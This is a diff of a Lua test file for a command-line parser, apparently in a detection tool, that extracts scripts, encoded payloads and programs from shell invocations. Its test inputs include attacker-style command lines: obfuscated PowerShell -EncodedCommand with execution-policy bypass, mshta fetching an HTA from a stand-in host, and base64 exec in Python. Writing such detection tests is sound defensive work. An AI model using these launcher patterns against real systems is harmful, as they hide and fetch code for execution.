@@ -1,12 +1,16 @@
--- command.lua: what is read off command lines: scripts, texts, encoded texts, libraries, programs.
+-- command_test.lua: what is read off command lines: scripts, texts, encoded texts, libraries, programs.
 
+package.path = "tests/lua/alert/?.lua;" .. package.path
+local shim = require "shim"
+local test = shim.test
 local command = require "alert.command"
 
 local function reads(line, expected, image)
   local got = command.read(line, image)
   for _, what in ipairs { "script", "text", "encoded", "library", "program" } do
     if got[what] ~= expected[what] then
-      error(("%s\n  %s: got %s, expected %s"):format(line, what, tostring(got[what]), tostring(expected[what])), 0)
+      error(("%s\n  %s: got %s, expected %s"):format(line, what, tostring(got[what]),
+                                                     tostring(expected[what])), 0)
     end
   end
 end
@@ -15,7 +19,8 @@ local B64  = "VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA="            -- "Write-Host hi
 local HI   = "Write-Host hi"
 
 test("command: every spelling of -EncodedCommand, decoded", function()
-  for _, switch in ipairs { "-EncodedCommand", "-encodedcommand", "-enc", "-e", "-ec", "/e", "-En", "\226\128\147enc" } do
+  for _, switch in ipairs { "-EncodedCommand", "-encodedcommand", "-enc", "-e", "-ec", "/e", "-En",
+                            "\226\128\147enc" } do
     reads("powershell.exe -NoP " .. switch .. " " .. B64, { text = HI, encoded = true })
   end
   reads('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w 1 -enc  "' .. B64 .. '"',
@@ -49,7 +54,8 @@ end)
 test("command: cmd is looked through", function()
   reads('cmd.exe /d /s /c "trufflehog\\trufflehog.exe filesystem . --json"',
         { program = "trufflehog\\trufflehog.exe", text = "trufflehog\\trufflehog.exe filesystem . --json" })
-  reads('C:\\Windows\\SYSTEM32\\cmd.exe /c "C:\\Users\\Admin\\Demo.bat"', { script = "C:\\Users\\Admin\\Demo.bat" })
+  reads('C:\\Windows\\SYSTEM32\\cmd.exe /c "C:\\Users\\Admin\\Demo.bat"',
+        { script = "C:\\Users\\Admin\\Demo.bat" })
   reads('"cmd.exe" /c powershell -exec bypass -e ' .. B64, { text = HI, encoded = true })
   reads("cmd /cwhoami", { text = "whoami" })
   reads("cmd  /c echo /e:vbscript.encode /b", { text = "echo /e:vbscript.encode /b" })
@@ -71,7 +77,8 @@ test("command: shells, and pipelines that decode", function()
 end)
 
 test("command: script hosts, mshta, rundll32, regsvr32", function()
-  reads('"C:\\windows\\System32\\WScript.exe" "C:\\Users\\p\\Desktop\\launcher.vbs" ', { script = "C:\\Users\\p\\Desktop\\launcher.vbs" })
+  reads('"C:\\windows\\System32\\WScript.exe" "C:\\Users\\p\\Desktop\\launcher.vbs" ',
+        { script = "C:\\Users\\p\\Desktop\\launcher.vbs" })
   reads("cscript //nologo //e:jscript x.txt", { script = "x.txt" })
   reads('mshta  vbscript:Execute("x")', { text = 'vbscript:Execute("x")' })
   reads("mshta https://x.example/a.hta", { text = "https://x.example/a.hta" })
@@ -84,7 +91,8 @@ test("command: script hosts, mshta, rundll32, regsvr32", function()
 end)
 
 test("command: Python, Node, osascript, Lua", function()
-  reads("python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"", { text = "print(1)", encoded = true })
+  reads("python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
+        { text = "print(1)", encoded = true })
   reads("python.exe -W ignore a.py --x", { script = "a.py" })
   reads('"C:\\Py\\python.exe" -m http.server 8000', { text = "-m http.server 8000" })
   reads("python", {})
@@ -110,3 +118,5 @@ test("command: hostile lines are read, and end", function()
   assert(type(command.read(("powershell -w "):rep(5000))) == "table")
   assert(next(command.read(nil)) == nil and next(command.read("")) == nil)
 end)
+
+shim.done()
